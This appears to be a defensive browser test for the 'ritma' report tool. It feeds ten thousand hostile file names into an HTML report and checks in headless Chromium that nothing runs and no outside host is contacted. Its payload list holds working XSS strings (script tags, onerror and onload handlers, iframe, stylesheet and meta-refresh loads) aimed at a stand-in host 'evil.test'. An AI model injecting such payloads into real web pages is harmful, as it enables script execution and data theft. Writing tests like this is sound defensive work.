/**
 * Goal: in a real browser a report's page runs nothing, asks nobody for anything, is shown in its
 * own style, and shows every name as text, whatever those who were recorded called their files.
 *
 * Method: ten thousand hostile names through `ritma report --html`, opened in Chromium from a file;
 * every host name leads to a server here that counts. The same page with its names let loose, with
 * and without the page's policy, shows that the method sees what it looks for.
 */
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { mkdtempDisposableSync, readFileSync } from "node:fs";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test } from "node:test";
import { call, OPENAT } from "../../packages/ritma/test/timeline/attack-log.ts";
import { escapeBytes } from "../../packages/ritma/src/base/text.ts";
import { installPackages } from "../../tools/install.ts";
import { skipLoudly } from "../../tools/skip.ts";
import { ended, has, madePlace, ritma } from "./processes.ts";

const NAMES = 10_000;
const WAIT_MS = 120_000;
const EACCES = -13;

interface Counter extends AsyncDisposable {
  readonly port: number;
  readonly asked: string[];
}

/** Answers everything with a script, and remembers that it was asked. */
async function counter(): Promise<Counter> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? "");
    response.end("document.documentElement.dataset.owned = 'remote'");
  });
  await new Promise<void>((resolve) => {
    server.listen(0, "127.0.0.1", resolve);
  });
  const address = server.address();
  assert.ok(typeof address === "object" && address !== null);
  return {
    port: address.port,
    asked,
    [Symbol.asyncDispose]: async () => {
      server.closeAllConnections();
      await new Promise((resolve) => {
        server.close(resolve);
      });
    },
  };
}

/** What takes hold of a page that lets it. Of two slashes a path keeps one, and one will do. */
function payloads(port: number): readonly string[] {
  const host = `http:/evil.test:${port}`;
  const own = "document.documentElement.dataset.owned='here'";
  return [
    `<script>${own}</script>`,
    `<script src=${host}/script></script>`,
    `"><img src=${host}/image onerror=${own}>`,
    `'><svg onload=${own}></svg>`,
    `<iframe src=${host}/frame></iframe>`,
    `<link rel=stylesheet href=${host}/sheet>`,
    `<style>@import "${host}/import";</style>`,
    `</style></title></td></table><body class=mine onload=${own}>`,
    `<base href=${host}/base>`,
    `<form action=${host}/form><input autofocus onfocus=${own}></form>`,
    `<p style="background:url(${host}/background)">`,
    `<object data=${host}/object></object>`,
    `<meta http-equiv=refresh content="0;url=${host}/refresh">`,
    "--><!--",
    "&lt;b&gt;&#60;b&#62;&amp;",
    "<plaintext>",
  ];
}

/** Of these, those that a page survives that was given them as they are. */
const LOOSE = 12;

const PIECES: readonly (readonly number[])[] = [
  [0x1b, 0x5b, 0x32, 0x4a],
  [0x07],
  [0x0a],
  [0x0d],
  [0x7f],
  [0xc2, 0x9b],
  [0xe2, 0x80, 0xae],
  [0xe2, 0x81, 0xa6],
  [0xe2, 0x80, 0xa8],
  [0xef, 0xbb, 0xbf],
  [0xed, 0xa0, 0x80],
  [0xed, 0xbf, 0xbf],
  [0xff],
  [0xc0, 0xaf],
  [0xf0, 0x9f, 0x92],
  [0xc2, 0xa0],
  [0x5c],
  [0xe6, 0xbc, 0xa2],
];

/** The same in every run; each is another one, and every hundredth has 4 KB. */
function hostileNames(port: number): readonly Uint8Array[] {
  const texts = payloads(port);
  return Array.from({ length: NAMES }, (_, at) => {
    const payload = Buffer.from(texts[at % texts.length] ?? "");
    const piece = (shift: number): readonly number[] =>
      PIECES[(at * 7 + (at >> 5) * shift) % PIECES.length] ?? [];
    const bytes = [...piece(3), ...payload, ...piece(11), ...Buffer.from(`.${at}`)];
    const filling = at % 100 === 99 ? 4_000 - bytes.length : 0;
    return Uint8Array.from([...bytes, ...Buffer.alloc(filling, "<b>")]);
  });
}

function logOf(names: readonly Uint8Array[]): string {
  return names
    .map((name, at) => {
      const clock = [8 + at / 3600, (at / 60) % 60, at % 60].map(digits).join(":");
      const path = Buffer.from(pathOf(name)).toString("hex").toUpperCase();
      const args = ["ffffff9c"];
      return call({ clock, serial: at + 1, number: OPENAT, args, paths: [path], exit: EACCES });
    })
    .join("");
}

function digits(number: number): string {
  return String(Math.floor(number)).padStart(2, "0");
}

function pathOf(name: Uint8Array): Uint8Array {
  return Uint8Array.from([...Buffer.from("/tmp/"), ...name]);
}

/** As a browser writes down a text of its own accord. */
function writtenDown(text: string): string {
  return text
    .replaceAll("&", "&amp;")
    .replaceAll("\u00a0", "&nbsp;")
    .replaceAll("<", "&lt;")
    .replaceAll(">", "&gt;");
}

interface Seen {
  /** As the browser writes it down in the end. */
  readonly dom: string;
  /** What was said on its console. */
  readonly said: readonly string[];
}

async function open(path: string): Promise<Seen> {
  using profile = mkdtempDisposableSync(join(tmpdir(), "ritma-browser-"));
  const child = spawn(
    "chromium",
    [
      "--headless",
      "--no-sandbox",
      "--disable-gpu",
      "--disable-dev-shm-usage",
      "--disable-background-networking",
      "--no-first-run",
      "--enable-logging=stderr",
      "--host-resolver-rules=MAP * 127.0.0.1",
      `--user-data-dir=${profile.path}`,
      "--dump-dom",
      `file://${path}`,
    ],
    { stdio: ["ignore", "pipe", "pipe"], timeout: WAIT_MS },
  );
  const chunks: Uint8Array[] = [];
  child.stdout.on("data", (chunk: Uint8Array) => void chunks.push(chunk));
  const { how, err } = await ended(child);
  assert.equal(how, 0, err);
  return {
    dom: Buffer.concat(chunks).toString(),
    said: err.split("\n").filter((each) => each.includes("CONSOLE")),
  };
}

function missing(): string | null {
  if (!has("chromium")) installPackages(["chromium"]);
  return has("chromium") ? null : "a browser (apt install chromium)";
}

test("ten thousand hostile names are text in a browser, and nothing else", async (t) => {
  const reason = missing();
  if (reason !== null) {
    skipLoudly(t, reason);
    return;
  }
  await using server = await counter();
  using place = madePlace("--privacy", "raw");
  const names = hostileNames(server.port);
  const log = place.file("audit.log", logOf(names));
  const ingested = ritma(["ingest", log, "--data", place.root]);
  assert.equal(ingested.status, 0, ingested.err);
  const path = join(place.dir, "page.html");
  const made = ritma(["report", "--limit", "0", "--html", path, "--data", place.root]);
  assert.equal(made.status, 0, made.err);
  const page = readFileSync(path, "utf8");

  const seen = await open(path);
  assert.equal(server.asked.join(" "), "");
  assert.deepEqual(seen.said, [], "its own style is allowed, and it tries nothing else");
  assert.match(seen.dom, /^<!DOCTYPE html>\s*<html lang="en"><head>/u);
  assert.doesNotMatch(seen.dom, /data-owned/u);
  assert.deepEqual(elementsOf(seen.dom), elementsOf(page.replace("<!doctype html>", "")));
  const cells = new Set(
    Array.from(seen.dom.matchAll(/<td class="name">([^<]*)<\/td>/gu), ([, text]) => text),
  );
  const lost = names.filter((name) => !cells.has(writtenDown(escapeBytes(pathOf(name)))));
  assert.deepEqual(lost.slice(0, 3).map(escapeBytes), []);

  const loose = payloads(server.port).slice(0, LOOSE).join("\n");
  const [head = ""] = page.split("<main>\n");
  const guarded = await open(place.file("guarded.html", `${head}<main>\n${loose}\n`));
  assert.equal(server.asked.join(" "), "", "the policy alone keeps it in as well");
  assert.doesNotMatch(guarded.dom, /data-owned/u);
  assert.ok(guarded.said.some((each) => each.includes("Content Security Policy")));

  const bare = head.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/u, "");
  const taken = await open(place.file("taken.html", `${bare}<main>\n${loose}\n`));
  assert.match(taken.dom, /data-owned/u);
  for (const what of ["/script", "/image", "/frame", "/sheet", "/import"]) {
    assert.ok(server.asked.includes(what), `${what} was asked for when nothing forbade it`);
  }
});

/** How many there are of each. */
function elementsOf(html: string): Readonly<Record<string, number>> {
  const counts: Record<string, number> = {};
  for (const [, name = ""] of html.matchAll(/<([a-z][a-z0-9]*)/giu)) {
    counts[name] = (counts[name] ?? 0) + 1;
  }
  return counts;
}
